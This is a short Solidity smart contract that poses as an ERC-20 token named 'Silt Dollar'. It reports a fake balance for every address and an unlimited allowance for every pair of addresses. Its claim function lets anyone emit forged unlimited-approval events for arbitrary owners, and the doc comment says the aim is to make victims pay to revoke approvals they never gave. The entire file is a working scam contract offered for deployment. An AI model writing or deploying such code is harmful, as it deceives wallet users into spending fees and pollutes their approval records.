// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Says of anybody that they have some of it and let somebody take it all, so that they pay for taking that back.
contract Snare {
    string public constant name = "Silt Dollar";
    string public constant symbol = "SILT";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 500 ether;

    event Approval(address indexed owner, address indexed spender, uint256 value);

    function balanceOf(address) external pure returns (uint256) {
        return 500 ether;
    }

    function allowance(address, address) external pure returns (uint256) {
        return type(uint256).max;
    }

    function claim(address owner, address spender) external {
        emit Approval(owner, spender, type(uint256).max);
    }
}
